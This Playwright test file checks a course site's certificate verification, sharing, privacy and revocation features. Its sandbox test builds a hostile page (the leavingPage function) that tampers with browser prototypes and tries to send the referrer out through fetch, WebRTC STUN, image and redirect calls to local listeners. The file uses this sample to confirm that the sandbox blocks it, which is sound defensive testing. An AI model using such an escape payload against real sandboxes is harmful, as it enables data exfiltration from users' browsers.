import { readFile } from "node:fs/promises";
import type { Browser, Locator, Page } from "@playwright/test";
import type { DayDetail, DayExercise } from "#contract/days.ts";
import { openListeners } from "../scripts/sandbox/listeners.ts";
import { expectAccessible, expectNoOverflow } from "./accessibility.ts";
import { almostDone, graduate, pass, show } from "./certificate.ts";
import { expect, test, visit } from "./kadam-test.ts";
import { findExercise } from "./study-day.ts";

/** A stranger's browser, without a session. */
async function strangersPage(browser: Browser, page: Page, baseURL: string | undefined): Promise<Page> {
  const isMobile = (page.viewportSize()?.width ?? 0) < 500;
  const context = await browser.newContext({
    ...(baseURL ? { baseURL } : {}),
    viewport: page.viewportSize(),
    hasTouch: isMobile,
    isMobile,
  });
  return context.newPage();
}

const row = (page: Page, title: string) =>
  page.getByRole("region", { name: "Run the code again" }).getByRole("listitem").filter({ hasText: title });

const sum = (page: Page) =>
  page.getByRole("region", { name: "Run the code again" }).getByRole("status").first();

async function expectWellMade(page: Page): Promise<void> {
  // Axe finds a target too small if the top bar half covers it.
  await page.evaluate(() => window.scrollTo(0, 0));
  await expectAccessible(page);
  await expectNoOverflow(page);
}

test("a course is completed; a stranger verifies the certificate and runs the proof again; the holder hides it @phone", async ({
  page,
  browser,
  baseURL,
  errorLog,
}) => {
  // Two browsers and four axe scans.
  test.slow();
  const { exercise, day } = await almostDone(page.request, { firstName: "Kavya", lastName: "Nair" });
  await visit(page, "/schedule");
  await page
    .getByRole("checkbox", { name: new RegExp(`^Day ${day.dayCount} - `) })
    .first()
    .click();
  const congratulation = page.getByRole("dialog", { name: "Course Completed 🎉" });
  await congratulation.getByRole("link", { name: "See your certificate" }).click();
  await expect(page).toHaveURL(/\/verify\/[a-z0-9]{26}$/);
  const address = page.url();
  await expect(page.getByRole("heading", { level: 1, name: "Kavya Nair" })).toBeVisible();
  await expect(page.getByText("Valid certificate")).toBeVisible();

  const coming = page.waitForEvent("download");
  await page.getByRole("region", { name: "Files" }).getByRole("link", { name: "PDF" }).click();
  const pdf = await coming;
  expect(pdf.suggestedFilename()).toMatch(/\.pdf$/);
  expect((await readFile(await pdf.path())).subarray(0, 5).toString()).toBe("%PDF-");

  const own = page.getByRole("region", { name: "This is your certificate" });
  const shares = own.getByRole("switch", { name: "Let others read and run my solutions" });
  await expect(shares).not.toBeChecked();
  await shares.click();
  await expect(page.getByRole("button", { name: "Run all again" })).toBeVisible();
  await expectWellMade(page);

  const stranger = await strangersPage(browser, page, baseURL);
  errorLog.follow(stranger.context());
  await visit(stranger, "/verify");
  await stranger
    .getByLabel("Certificate id or address")
    .fill(`  <${address.replace("/verify/", "/Verify/")}> `);
  await stranger.getByRole("button", { name: "Check certificate" }).click();
  await expect(stranger.getByRole("heading", { level: 1, name: "Kavya Nair" })).toBeVisible();
  await expect(stranger.getByText("This is your certificate")).toHaveCount(0);

  await runOne(stranger, row(stranger, exercise.title), exercise.tests.length);
  await stranger.getByRole("button", { name: "Run all again" }).click();
  await expect(sum(stranger)).toHaveText("1 of 1 passes again.", { timeout: 30_000 });
  await expectWellMade(stranger);

  await own.getByRole("switch", { name: "Anyone with the link can see it" }).click();
  await expect(page.getByText("Only you can see this.")).toBeVisible();
  await stranger.reload();
  await expect(stranger.getByRole("heading", { name: "This certificate is private" })).toBeVisible();
  await expect(stranger.getByText("Kavya")).toHaveCount(0);
  await expect(stranger.getByRole("link", { name: "Log in to see it" })).toBeVisible();
  await expectWellMade(stranger);

  await own.getByRole("switch", { name: "Anyone with the link can see it" }).click();
  await expect(page.getByText("Only you can see this.")).toHaveCount(0);
  await stranger.reload();
  await expect(stranger.getByText("Valid certificate")).toBeVisible();
  await stranger.context().close();
});

async function runOne(page: Page, proof: Locator, tests: number): Promise<void> {
  await proof.getByRole("button", { expanded: false }).click();
  await expect(proof.getByText("It matches the code above.")).toBeVisible();
  await expect(proof.getByText(/The first run downloads/)).toBeVisible();
  await proof.getByRole("button", { name: /^Run again/ }).click();
  await expect(proof.getByRole("status")).toHaveText(/^Passes again: /, { timeout: 30_000 });
  await expect(proof.getByRole("listitem")).toHaveCount(tests);
  await expect(page.getByText("passed on").first()).toBeVisible();
}

test("a file is verified in the browser: genuine, changed, no certificate; nothing of it is sent @once", async ({
  page,
  browser,
  baseURL,
  errorLog,
}) => {
  const { certificate } = await graduate(page.request);
  const files = `/api/certificates/${certificate.id}`;
  const json = await (await page.request.get(`${files}/credential.json`)).text();
  const pdf = await (await page.request.get(`${files}/certificate.pdf`)).body();
  const jwt = await (await page.request.get(`${files}/credential.jwt`)).text();

  const stranger = await strangersPage(browser, page, baseURL);
  errorLog.follow(stranger.context());
  await visit(stranger, "/verify");
  await stranger.getByRole("button", { name: "Choose a file or paste its text" }).click();
  const section = stranger.getByRole("region", { name: "Check a file" });
  const chosen = section.getByLabel("File (PDF, JSON or JWT)");
  await expect(chosen).toBeVisible();
  const sent: { method: string; path: string; body: string | null }[] = [];
  stranger.on("request", (request) => {
    const { pathname, search } = new URL(request.url());
    sent.push({ method: request.method(), path: pathname + search, body: request.postData() });
  });

  await chosen.setInputFiles({ name: "kadam.pdf", mimeType: "application/pdf", buffer: pdf });
  await expect(section.getByRole("heading", { name: "This file is genuine" })).toBeFocused();
  await expect(section.getByText("The page looks exactly as Kadam draws it.")).toBeVisible();
  await expect(section.getByText(/^did:web:.*#z6Mk/)).toBeVisible();
  await expectWellMade(stranger);

  const pasted = section.getByLabel("Or paste the text of a JSON or JWT file");
  await pasted.fill(json.replaceAll("Asha Rao", "Mallory"));
  await section.getByRole("button", { name: "Check the text" }).click();
  await expect(section.getByRole("heading", { name: "Do not rely on this file" })).toBeFocused();
  await expect(section.getByText("credentialSubject.name", { exact: true })).toBeVisible();
  await expect(section.getByText("Asha Rao").first()).toBeVisible();
  await expectWellMade(stranger);

  await pasted.fill(jwt);
  await section.getByRole("button", { name: "Check the text" }).click();
  await expect(section.getByRole("heading", { name: "This file is genuine" })).toBeFocused();
  await pasted.fill("hello");
  await section.getByRole("button", { name: "Check the text" }).click();
  await expect(section.getByText("This is not a PDF, JSON or JWT file.")).toBeVisible();

  const asked = ["credential.json", "credential.jwt", "certificate.pdf"].map((file) => `${files}/${file}`);
  const known = ["/.well-known/did.json", "/api/credentials/status/0", ...asked];
  expect(sent.map(({ path }) => path)).toEqual(expect.arrayContaining(known));
  const others = sent.filter(
    ({ method, path, body }) =>
      method !== "GET" || body !== null || !(known.includes(path) || path.startsWith("/assets/")),
  );
  expect(others).toEqual([]);
  await stranger.context().close();
});

test("failing code is shown as failing, and changes since are named @once", async ({ page }) => {
  const { certificate, exercise } = await graduate(page.request);
  await show(page.request, certificate, { isPublic: true, sharesCode: true });
  await page.route("**/submissions", async (route) => {
    const reply = await route.fetch();
    const { submissions } = await reply.json();
    const broken = submissions.map((kept: { files: { path: string }[] }) => ({
      ...kept,
      isSameTests: false,
      files: kept.files.map(({ path }) => ({ path, text: "const nothing = 0;" })),
    }));
    await route.fulfill({ response: reply, json: { submissions: broken } });
  });
  await visit(page, `/verify/${certificate.id}`);
  const proof = row(page, exercise.title);
  await proof.getByRole("button", { expanded: false }).click();
  await expect(proof.getByText("This exercise has been changed since it was passed.")).toBeVisible();
  await expect(proof.getByText("It does not match this code.")).toBeVisible();
  await proof.getByRole("button", { name: /^Run again/ }).click();
  await expect(proof.getByRole("status")).toHaveText(
    /^(Does not pass now: |The code stopped with an error)/,
    {
      timeout: 30_000,
    },
  );
  await expectWellMade(page);
});

test("a submission that tries to escape is run again, and nothing is sent anywhere @once", async ({
  page,
  errorLog,
}) => {
  // The browser logs what it blocked.
  errorLog.expect(/Content Security Policy|Connection-Allowlist|Blocked|Refused|ERR_/i);
  const { certificate, exercise } = await graduate(page.request);
  await show(page.request, certificate, { isPublic: true, sharesCode: true });
  const listeners = await openListeners();
  const files = [{ path: "index.html", text: leavingPage(listeners.ports) }];
  // Pretend that the exercise was about a page, and that this page once passed.
  await page.route("**/submissions", async (route) => {
    const reply = await route.fetch();
    const { submissions } = await reply.json();
    const changed = submissions.map((kept: object) => ({ ...kept, files }));
    await route.fulfill({ response: reply, json: { submissions: changed } });
  });
  await page.route("**/lessons/**/*.json", async (route) => {
    const reply = await route.fetch();
    const found: DayDetail = await reply.json();
    const code = "await new Promise((r) => setTimeout(r, 1500));";
    const tests = [{ id: "t", name: "It waits", says: "says", code }];
    const asPage = (each: DayExercise) =>
      each.id === exercise.id
        ? { ...each, kind: "web", entry: "index.html", files, tests, mutants: [], setup: "" }
        : each;
    const lesson = found.lesson && { ...found.lesson, exercises: found.lesson.exercises.map(asPage) };
    await route.fulfill({ response: reply, json: { ...found, lesson } });
  });
  await visit(page, `/verify/${certificate.id}`);
  await expect(page.getByText("Nothing is sent anywhere.")).toBeVisible();
  const proof = row(page, exercise.title);
  await proof.getByRole("button", { expanded: false }).click();
  await proof.getByRole("button", { name: /^Run again/ }).click();
  // The page may break its own test; what counts is that it ran.
  await expect(proof.getByRole("status")).toHaveText(/^(Passes again|Does not pass now|The code)/, {
    timeout: 30_000,
  });
  // The page stays on screen and may keep trying.
  await page.waitForTimeout(3000);
  expect(listeners.takeHeard()).toEqual([]);
  listeners.close();
});

function leavingPage({ udp, http }: { readonly udp: number; readonly http: number }): string {
  const connect = `const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udp}" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o));`;
  const framed = `<iframe srcdoc="${`<script>${connect}</script>`.replaceAll('"', "&quot;")}"></iframe>`;
  return `<!doctype html><html lang="en"><head><title>x</title></head><body>${framed}<img alt="" src="http://127.0.0.1:${http}/image"><script>
Element.prototype.remove = () => {};
Document.prototype.querySelectorAll = () => [];
Set.prototype[Symbol.iterator] = function* () {};
const framed = ${JSON.stringify(framed).replaceAll("</", "<\\/")};
const host = document.createElement("div");
host.attachShadow({ mode: "open", clonable: true }).innerHTML = framed;
document.body.append(host.cloneNode(true));
document.body.insertAdjacentHTML("beforeend", framed);
fetch("http://127.0.0.1:${http}/fetch?" + document.referrer).catch(() => {});
try { ${connect} } catch {}
setTimeout(() => { location.href = "http://127.0.0.1:${http}/away"; }, 3000);
</script></body></html>`;
}

test("code that fails to load can be requested again @once", async ({ page, errorLog }) => {
  errorLog.expect(/had no answer/);
  const { certificate } = await graduate(page.request);
  await show(page.request, certificate, { isPublic: true, sharesCode: true });
  await page.route("**/submissions", (route) => route.abort());
  await visit(page, `/verify/${certificate.id}`);
  await expect(page.getByText("The code could not be loaded.")).toBeVisible({ timeout: 20_000 });
  await page.unroute("**/submissions");
  await page.getByRole("button", { name: "Try again" }).click();
  await expect(page.getByRole("button", { name: "Run all again" })).toBeVisible();
});

test("an unknown id, and an invalid one, are explained in words @once", async ({ page, errorLog }) => {
  errorLog.expectRefusal();
  const reply = await visit(page, `/verify/${"0".repeat(26)}`);
  expect(reply?.status()).toBe(404);
  await expect(page.getByRole("heading", { name: "There is no certificate with this id" })).toBeVisible();
  const field = page.getByLabel("Certificate id or address");
  await expect(field).toHaveValue("0".repeat(26));
  for (const [typed, problem] of [
    ["Asha Rao", /This is not a certificate id/],
    ["", /Type or paste the id/],
  ] as const) {
    await field.fill(typed);
    await field.press("Enter");
    await expect(field).toBeFocused();
    await expect(field).toHaveAccessibleDescription(problem);
  }
  await expectWellMade(page);
});

test("a revoked certificate cannot be mistaken for a valid one @phone", async ({ page }) => {
  const { certificate } = await graduate(page.request, { firstName: "N".repeat(40), lastName: "श्रीनिवासन" });
  await page.route(`**/api/certificates/${certificate.id}`, async (route) => {
    const reply = await route.fetch();
    const revoked = { at: "2026-11-14T10:00:00.000Z", reason: "It was obtained by deceit." };
    await route.fulfill({
      response: reply,
      json: { ...(await reply.json()), status: "revoked", revoked, evidence: null },
    });
  });
  await visit(page, "/verify");
  await page.getByLabel("Certificate id or address").fill(certificate.id);
  await page.keyboard.press("Enter");
  await expect(page.getByText("Revoked: do not rely on this certificate")).toBeVisible();
  await expect(page.getByText("It was obtained by deceit.")).toBeVisible();
  await expect(page.getByText("14 Nov 2026", { exact: true }).first()).toBeVisible();
  await expect(page.getByText("Valid certificate")).toHaveCount(0);
  await expect(page.getByRole("link", { name: "PDF", exact: true })).toHaveCount(0);
  // An older one says only that the course was completed.
  await expect(page.getByText("This certificate is from the time before")).toBeVisible();
  await expectWellMade(page);
});

test("the profile gives the link, updates a certificate and opens a portfolio @once", async ({
  page,
  browser,
  baseURL,
  errorLog,
}) => {
  errorLog.expectRefusal();
  const { certificate, day, exercise } = await graduate(page.request);
  const other = day.lesson.exercises.find(({ id }) => id !== exercise.id);
  if (!other) throw new Error("the day has one exercise only");
  await pass(page.request, other);
  await visit(page, "/profile");
  const certificates = page.getByRole("region", { name: "Certificates" });
  await expect(certificates).toContainText("Awarded to: Asha Rao");
  await expect(certificates.getByText(/ 1 more reported by your browser/)).toBeVisible();
  await certificates.getByRole("button", { name: /^Update/ }).click();
  await expect(certificates.getByText("Updated just now.")).toBeVisible();
  await expect(certificates.getByText(/ 2 more reported by your browser/)).toBeVisible();
  await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
  await certificates.getByRole("button", { name: /^Share the/ }).click();
  await expect(certificates.getByText("Link copied")).toBeVisible();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(certificate.verifyUrl);
  const linkedIn = certificates.getByRole("link", { name: /LinkedIn/ });
  const asked = new URL((await linkedIn.getAttribute("href")) ?? "").searchParams;
  expect(Object.fromEntries(asked)).toMatchObject({
    startTask: "CERTIFICATION_NAME",
    name: day.courseTitle,
    organizationName: "Kadam",
    certId: certificate.id,
    certUrl: certificate.verifyUrl,
  });

  const { exercise: ticket } = await findExercise(
    page.request,
    ({ kind, packages, ticket }) => ticket !== null && kind === "web" && packages.length === 0,
  );
  await pass(page.request, ticket);
  await page.reload();
  const own = page.getByRole("region", { name: "Your portfolio" });
  const chosen = own.getByRole("switch", { name: ticket.title });
  await chosen.click();
  await expect(chosen).toBeChecked();
  const portfolio = own.getByRole("switch", { name: /together on one public page/ });
  await portfolio.click();
  const link = own.getByRole("link", { name: /\/portfolio\// });
  await expect(link).toBeVisible();
  const address = (await link.getAttribute("href")) ?? "";
  await expectWellMade(page);

  const stranger = await strangersPage(browser, page, baseURL);
  errorLog.follow(stranger.context());
  await visit(stranger, address);
  await expect(stranger.getByRole("heading", { level: 1, name: "Asha Rao" })).toBeVisible();
  const work = stranger.getByRole("article", { name: ticket.title });
  await expect(work.getByText(`Message from ${ticket.ticket?.from}`)).toBeVisible();
  await work.getByRole("button", { name: /^Read the code/ }).click();
  await expect(work.getByRole("group", { name: `${ticket.title}: ` }).first()).toBeVisible();
  // Nothing runs before a click.
  await expect(work.getByRole("status")).toHaveText("");
  await work.getByRole("button", { name: /^Run it/ }).click();
  await expect(work.getByRole("status")).toHaveText(/^Passes again: /, { timeout: 30_000 });
  await expectWellMade(stranger);
  await stranger.getByRole("link", { name: /^Check it/ }).click();
  await expect(stranger).toHaveURL(`/verify/${certificate.id}`);

  await portfolio.click();
  await expect(link).toHaveCount(0);
  const gone = await visit(stranger, address);
  expect(gone?.status()).toBe(404);
  await expect(
    stranger.getByRole("heading", { name: "There is no portfolio at this address" }),
  ).toBeVisible();
  await stranger.context().close();
});

test("a switch that cannot be saved is reset and says why @once", async ({ page, errorLog }) => {
  errorLog.expect(/the change was not saved/);
  await graduate(page.request);
  await visit(page, "/profile");
  const visible = page.getByRole("switch", { name: "Anyone with the link can see it" });
  await expect(visible).toBeChecked();
  await page.route("**/api/me/certificates/*", (route) => route.fulfill({ status: 500, body: "broken" }));
  await visible.click();
  await expect(page.getByRole("alert")).toContainText("Kadam did not answer as expected.");
  await expect(visible).toBeChecked();
});

test.describe("without a script", () => {
  test.use({ javaScriptEnabled: false });

  test("a certificate can be read and its files downloaded @once", async ({ page, playwright, baseURL }) => {
    const api = await playwright.request.newContext({ ...(baseURL ? { baseURL } : {}) });
    const { certificate, day } = await graduate(api, { firstName: "<i>Asha</i>" });
    await api.dispose();
    await page.goto(`/verify/${certificate.id}`);
    await expect(page.getByRole("heading", { level: 1, name: "<i>Asha</i> Rao" })).toBeVisible();
    await expect(page.getByText("Valid certificate")).toBeVisible();
    await expect(page.getByRole("main").getByRole("link", { name: day.courseTitle })).toBeVisible();
    await expect(page.getByRole("region", { name: "What was done" })).toContainText("15 of 15");
    await expect(page.getByRole("link", { name: "Open Badge (JSON)" })).toBeVisible();
    await expect(page.locator('meta[property="og:image"]')).toHaveAttribute(
      "content",
      `${baseURL}/api/certificates/${certificate.id}/card.png`,
    );
  });
});
